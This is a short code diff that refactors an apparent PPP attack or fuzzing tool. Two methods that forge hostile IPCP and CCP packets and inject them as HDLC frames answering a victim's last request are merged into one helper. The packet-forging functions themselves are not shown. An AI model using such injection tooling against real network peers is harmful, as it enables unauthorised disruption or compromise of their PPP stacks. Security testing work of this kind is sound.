@@ -305,21 +305,23 @@ class _Attack:
 
     def vj_ipcp(self, source: Input) -> None:
         """A forged IPCP packet playing with IP-Compression-Protocol."""
-        packet = hostile_vj_ipcp(
-            source,
-            self.wire.last_id.get(PPPProtocol.IPCP),
-            self.wire.last_request.get(PPPProtocol.IPCP),
-        )
-        self.inject(hdlc.encode_frame(PPPProtocol.IPCP, packet))
+        self._forge(PPPProtocol.IPCP, hostile_vj_ipcp, source)
 
     def ccp(self, source: Input) -> None:
         """A forged CCP packet."""
-        packet = hostile_ccp(
-            source,
-            self.wire.last_id.get(PPPProtocol.CCP),
-            self.wire.last_request.get(PPPProtocol.CCP),
+        self._forge(PPPProtocol.CCP, hostile_ccp, source)
+
+    def _forge(
+        self,
+        protocol: PPPProtocol,
+        forge: Callable[[Input, int | None, bytes | None], bytes],
+        source: Input,
+    ) -> None:
+        """Inject ``forge``'s packet, answering the victim's last ``protocol`` packet."""
+        packet = forge(
+            source, self.wire.last_id.get(protocol), self.wire.last_request.get(protocol)
         )
-        self.inject(hdlc.encode_frame(PPPProtocol.CCP, packet))
+        self.inject(hdlc.encode_frame(protocol, packet))
 
     def comp(self, source: Input) -> None:
         """A forged or replayed compressed (or MPPE) datagram."""
